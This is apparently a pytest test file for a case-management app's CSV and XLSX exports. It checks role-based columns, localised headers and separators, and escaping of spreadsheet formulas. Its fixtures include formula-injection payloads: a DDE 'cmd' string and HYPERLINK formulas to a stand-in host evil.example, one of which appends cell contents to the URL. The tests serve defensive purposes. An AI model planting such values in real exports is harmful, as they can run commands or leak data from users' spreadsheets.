"""Exporting the filtered case list: CSV and XLSX, in the reader's language, under the list's policy,
safe against spreadsheet formulas."""

from __future__ import annotations

import csv
import io
import re

import openpyxl
import pytest

from expertise_app.db_types import utcnow
from expertise_app.extensions import db


def _csv(response, delimiter: str = ",") -> list[list[str]]:
    assert response.status_code == 200
    assert response.mimetype == "text/csv" and response.headers["Content-Disposition"].startswith("attachment;")
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=delimiter))


def test_a_partner_exports_its_organisation_s_cases_without_the_internal_columns(factory, cast, signed_in):
    own = factory.cast_case(cast, "assessed")
    theirs = factory.case(author=cast.other_partner)
    rows = _csv(signed_in(cast.partner).get("/cases/export.csv"))
    header, *cases = rows
    assert header[:3] == ["Reference", "Title", "Partner"]
    assert "Priority" not in header and "Lead expert" not in header
    assert [row[0] for row in cases] == [own.reference]
    assert theirs.reference not in str(rows)
    state = header.index("State")
    assert cases[0][state] == "Accepted"  # the partner's words for the state


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_an_export_s_file_name_says_what_list_it_holds(factory, signed_in, kind):
    """Two exports of one day, of two lists, are not saved under the same name; the words searched stay out."""
    client = signed_in(factory.manager())
    named = {
        query: re.search(
            r'filename="?([^";]+)', client.get(f"/cases/export.{kind}?{query}").headers["Content-Disposition"]
        )
        for query in ("", "view=all", "view=open&field=MUS&country=TN&sort=-submitted", "q=Bardo+reserves&due=past")
    }
    named = {query: found.group(1) for query, found in named.items()}
    day = f"{utcnow():%Y-%m-%d}"

    assert named[""] == f"passerelle-cases-{day}_view-open.{kind}"  # a manager's list opens on the open requests
    assert named["view=all"] == f"passerelle-cases-{day}_view-all.{kind}"
    assert named["view=open&field=MUS&country=TN&sort=-submitted"] == (
        f"passerelle-cases-{day}_view-open_field-MUS_country-TN.{kind}"
    )
    assert named["q=Bardo+reserves&due=past"] == f"passerelle-cases-{day}_view-all_due-past_search.{kind}"


def test_staff_exports_say_when_each_step_is_due_and_what_stops_its_clock(factory, cast, signed_in):
    waiting = factory.cast_case(cast, "submitted")
    factory.fire(waiting, "ask_partner", actor=cast.manager)
    held = factory.cast_case(cast, "assessed")
    factory.fire(held, "hold", actor=cast.manager)
    today = utcnow().date().isoformat()

    header, *rows = _csv(signed_in(cast.manager).get("/cases/export.csv?view=all"))
    by_reference = {row[0]: dict(zip(header, row, strict=True)) for row in rows}

    assert by_reference[waiting.reference]["Current step due on"] == waiting.due_on.isoformat()
    assert by_reference[waiting.reference]["Waiting for the partner since"] == today
    assert by_reference[waiting.reference]["On hold since"] == ""
    assert by_reference[held.reference]["On hold since"] == today
    assert by_reference[held.reference]["Waiting for the partner since"] == ""
    partner_header = _csv(signed_in(cast.partner).get("/cases/export.csv"))[0]
    assert not {"Current step due on", "Waiting for the partner since", "On hold since"} & set(partner_header)


def test_staff_export_the_filtered_list_in_their_language(factory, cast, signed_in):
    cast.manager.locale = "fr"
    db.session.commit()
    assessed = factory.cast_case(cast, "assessed")
    factory.cast_case(cast, "submitted")
    visitor = signed_in(cast.manager)
    header, *cases = _csv(visitor.get("/cases/export.csv?state=assessed"), delimiter=";")  # as French Excel splits
    assert header[0] == "Référence" and "Priorité" in header and "Expert principal" in header
    # The days are named as days, not by the word of the state the next column gives ("Clôturée").
    assert (header[11], header[14]) == ("Déposée le", "Clôturée le") and "Clôturée" not in header
    assert [row[0] for row in cases] == [assessed.reference]
    assert cases[0][header.index("Expert principal")] == cast.lead_expert.name


@pytest.mark.parametrize(
    ("language", "delimiter", "average"), [("en", ",", "4.5"), ("fr", ";", "4,5"), ("ar", ",", "4.5")]
)
def test_a_csv_splits_its_cells_and_writes_its_decimals_as_a_spreadsheet_in_the_reader_s_language_does(
    factory, cast, signed_in, language, delimiter, average
):
    """French Excel splits a CSV on semicolons and reads 4.5 as the fourth of May; English and Arabic Excel
    split on commas."""
    for score in ("4", "5"):
        case = factory.cast_case(cast, "mission_delivered")
        factory.fire(case, "give_feedback", actor=cast.partner, score_objectives=score)
    cast.manager.locale = language
    db.session.commit()
    visitor = signed_in(cast.manager)

    figures = _csv(visitor.get("/dashboard/figures.csv"), delimiter)
    cases = _csv(visitor.get("/cases/export.csv"), delimiter)

    assert len(figures[0]) == 4 and len({len(row) for row in cases}) == 1 and len(cases) == 3
    objectives = [row for row in figures if row[1] in ("Objectives achieved", "Objectifs atteints", "تحقيق الأهداف")]
    assert [row[2] for row in objectives] == [average]


@pytest.mark.parametrize(("language", "written_with", "read_with"), [("fr", ";", ","), ("en", ",", ";")])
def test_no_formula_begins_a_cell_when_a_csv_is_split_on_the_other_separator(
    factory, cast, signed_in, language, written_with, read_with
):
    """A French CSV opened by a spreadsheet that splits on commas (or an English one on semicolons): the text
    after a separator inside a title becomes a cell of its own, and must not run."""
    factory.case(author=cast.partner, title="Inventory,=cmd|' /C calc'!A0, and ;@SUM(A1) and ; -2+3")
    cast.partner.locale = language
    db.session.commit()
    visitor = signed_in(cast.partner)
    text = visitor.get("/cases/export.csv").get_data(as_text=True)[1:]

    for delimiter in (written_with, read_with):
        cells = [cell.strip() for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
        assert cells and not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))], delimiter
    _header, row = list(csv.reader(io.StringIO(text), delimiter=written_with))
    assert row[1] == "Inventory,'=cmd|' /C calc'!A0, and ;'@SUM(A1) and ; '-2+3"


def test_a_title_a_spreadsheet_would_run_is_written_as_text(factory, cast, signed_in):
    factory.case(author=cast.partner, title='=HYPERLINK("http://evil.example","Click")')
    factory.case(author=cast.partner, title="@SUM(A1:A9) and more")
    visitor = signed_in(cast.partner)
    _header, *cases = _csv(visitor.get("/cases/export.csv?sort=reference"))
    titles = sorted(row[1] for row in cases)
    assert titles == ['\'=HYPERLINK("http://evil.example","Click")', "'@SUM(A1:A9) and more"]
    workbook = openpyxl.load_workbook(io.BytesIO(visitor.get("/cases/export.xlsx").data))
    cells = [row[1] for row in workbook.active.iter_rows(min_row=2)]
    # Typed as text, never run, and shown as written: no apostrophe for the reader to see.
    assert sorted(cell.value for cell in cells) == ['=HYPERLINK("http://evil.example","Click")', "@SUM(A1:A9) and more"]
    assert [cell.data_type for cell in cells] == ["s", "s"]


def test_a_title_stored_with_a_character_xml_forbids_leaves_the_workbook_readable(factory, cast, signed_in):
    """Stored before the inbound check refused U+FFFF (the factory files through the service, not a request)."""
    factory.case(author=cast.partner, title="Noncharacter \uffff\ufffe title")

    workbook = openpyxl.load_workbook(io.BytesIO(signed_in(cast.partner).get("/cases/export.xlsx").data))

    assert [row[1].value for row in workbook.active.iter_rows(min_row=2)] == ["Noncharacter \ufffd\ufffd title"]


def test_the_xlsx_export_has_one_row_per_case_with_every_page(factory, cast, signed_in):
    for _ in range(25):  # more than a page of the list
        factory.case(author=cast.partner)
    response = signed_in(cast.partner).get("/cases/export.xlsx?page=2")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = openpyxl.load_workbook(io.BytesIO(response.data), read_only=True).active
    assert len(list(sheet.iter_rows(values_only=True))) == 26  # the header and every case


def test_the_list_offers_its_exports_with_its_filters(factory, cast, signed_in):
    factory.cast_case(cast, "assessed")
    page = signed_in(cast.manager).get("/cases?state=assessed&page=1").get_data(as_text=True)
    assert 'href="/cases/export.csv?state=assessed"' in page and 'href="/cases/export.xlsx?state=assessed"' in page


def test_an_unknown_export_format_is_not_found(cast, signed_in):
    assert signed_in(cast.partner).get("/cases/export.pdf").status_code == 404


def test_the_overview_s_figures_download_as_csv_for_managers_only(factory, cast, signed_in):
    factory.cast_case(cast, "assessed")
    factory.cast_case(cast, "closed")
    response = signed_in(cast.manager).get("/dashboard/figures.csv")
    rows = _csv(response)
    assert rows[0] == ["Section", "Item", "Value", "Open"]
    assert ["Requests", "requests in all", "2", "1"] in rows
    assert ["Requests by state", "Assessed", "1", ""] in rows and ["Outcome", "Completed", "1", ""] in rows
    assert signed_in(cast.lead_expert).get("/dashboard/figures.csv").status_code == 403
    assert signed_in(cast.partner).get("/dashboard/figures.csv").status_code == 404


def test_exported_days_are_dates_a_spreadsheet_sorts_and_the_arabic_workbook_reads_right_to_left(
    factory, cast, signed_in
):
    case = factory.case(author=cast.partner)
    cast.partner.locale = "ar"
    db.session.commit()
    visitor = signed_in(cast.partner)
    header, row = _csv(visitor.get("/cases/export.csv"))
    submitted = case.submitted_at.date()
    assert row[header.index("تاريخ التقديم")] == submitted.isoformat()

    workbook = openpyxl.load_workbook(io.BytesIO(visitor.get("/cases/export.xlsx").data))
    sheet = workbook.active
    assert sheet.title == "الطلبات"
    assert sheet.sheet_view.rightToLeft
    cells = dict(zip([cell.value for cell in sheet[1]], [cell.value for cell in sheet[2]], strict=True))
    assert cells["تاريخ التقديم"].date() == submitted  # a date cell, not words


def test_the_xlsx_export_opens_ready_to_read_a_bold_header_kept_in_view_a_filter_on_each_column(factory, signed_in):
    for number in range(3):
        factory.case(title=f"Visitor paths at site {number}")
    sheet = openpyxl.load_workbook(io.BytesIO(signed_in(factory.manager()).get("/cases/export.xlsx").data)).active

    header = [cell.value for cell in sheet[1]]
    assert all(cell.font.bold for cell in sheet[1]) and not any(cell.font.bold for cell in sheet[2])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(header))}4"  # the header and 3 rows
    title = openpyxl.utils.get_column_letter(header.index("Title") + 1)
    assert sheet.column_dimensions[title].width >= 40  # a title is read whole, not cut at 13 characters


def test_the_overview_s_figures_hold_no_formula_from_a_person_s_name(factory, signed_in):
    sly = factory.expert(name='=HYPERLINK("http://evil.example/?"&A2,"Open")')
    factory.assign_lead(factory.case(), sly)
    rows = _csv(signed_in(factory.manager()).get("/dashboard/figures.csv"))
    named = [row for row in rows if "HYPERLINK" in row[1]]
    assert named and all(row[1] == "'" + sly.name for row in named)
